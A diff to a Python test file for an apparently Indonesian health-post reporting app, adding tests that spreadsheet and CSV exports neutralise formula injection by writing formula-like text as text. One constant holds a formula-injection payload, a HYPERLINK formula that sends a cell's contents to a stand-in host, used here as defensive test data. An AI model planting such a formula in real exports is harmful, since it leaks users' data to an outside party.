@@ -1,4 +1,5 @@
-"""Every xlsx export opens in LibreOffice (headless, `soffice --convert-to csv`, cells as shown) with numbers as
+"""Safe exports: text a spreadsheet would run as a formula is written as text in every xlsx and CSV.
+Every xlsx export opens in LibreOffice (headless, `soffice --convert-to csv`, cells as shown) with numbers as
 numbers (grouped "1,234", decimals "75.0") and dates as dates ("05/12/2025"), never as text; and the CSV for
 Indonesian Excel is `;`-separated with a decimal comma. Needs libreoffice-calc-nogui (tests/system_deps.sh);
 under CI=true its absence fails instead of skipping."""
@@ -19,6 +20,10 @@ from tests.meetings.helpers import make_meeting
 from tests.reports.helpers import month_text
 from tests.reports.test_recap import _two_reports
 from webapp.exports import Column, Export, Sheet, to_csv
+from tests.reports.helpers import actor as report_actor, fill, last_month, new_id, palangan_posyandu
+from webapp import exports
+from webapp.extensions import db
+from webapp.reports import services as reports
 
 SOFFICE = shutil.which("soffice")
 AS_SHOWN = "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,true"
@@ -101,3 +106,57 @@ def test_csv_for_indonesian_excel_and_for_machines():
     assert rows[2] == ["Kosong", "", "", "", ""]
     machine = list(csv.reader(io.StringIO(to_csv(export, for_excel=False).decode("utf-8"))))
     assert machine[1] == ["Posyandu; Melati", "1234", "75.5", "2025-12-05", "2025-12-05T09:35"]
+
+
+HOSTILE = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
+
+
+@pytest.mark.parametrize("value, expected", [
+    ("=1+1", "'=1+1"), ("+62 812", "'+62 812"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Melati", "Melati"), (-5, -5), (None, ""), ("", ""),
+])
+def test_csv_cells_starting_like_a_formula_get_the_apostrophe(value, expected):
+    assert exports.csv_cell(value) == expected
+
+
+def test_xlsx_keeps_formula_like_text_as_text_and_numbers_as_numbers():
+    columns = [exports.Column("A"), exports.Column("B"), exports.Column("C", "int"), exports.Column("D"),
+               exports.Column("E")]
+    book = exports.to_xlsx(exports.Export("Uji", "Wilayah", "Periode", "Asia/Jakarta",
+                                          [exports.Sheet("Uji", columns, [["=1+1", "-3", -3, None, "Melati"]])]))
+    sheet = load_workbook(io.BytesIO(book)).worksheets[0]
+    a, b, c, d, e = sheet[2]
+    assert (a.value, a.data_type, a.quotePrefix) == ("=1+1", "s", True)
+    assert (b.value, b.data_type) == ("-3", "s") and (c.value, c.data_type) == (-3, "n")
+    assert d.value is None and (e.value, e.quotePrefix) == ("Melati", False)
+
+
+def _no_formula_anywhere(data: bytes) -> list[str]:
+    book = load_workbook(io.BytesIO(data))
+    texts = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+    return texts
+
+
+def test_a_posyandu_named_like_a_formula_is_text_in_every_export(demo_client, login_as):
+    posyandu = palangan_posyandu()
+    kader = report_actor("kader.palangan")
+    fill(kader, posyandu, *last_month())
+    reports.submit(kader, posyandu, *last_month(), new_id(), confirmed=True)
+    posyandu.name = HOSTILE
+    db.session.commit()
+    login_as(demo_client, "pokja.palangan")
+    month = month_text()
+    for path in (f"/laporan/rekap/62.02.01.2003/{month}", f"/laporan/data/62.02.01.2003/{month}",
+                 "/pemantauan/62.02.01.2003/tabel"):
+        xlsx = demo_client.get(path + ".xlsx")
+        assert xlsx.status_code == 200, path
+        assert HOSTILE in _no_formula_anywhere(xlsx.data), path
+        text = demo_client.get(path + ".csv").data.decode("utf-8-sig")
+        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+        assert "'" + HOSTILE in cells and HOSTILE not in cells, path
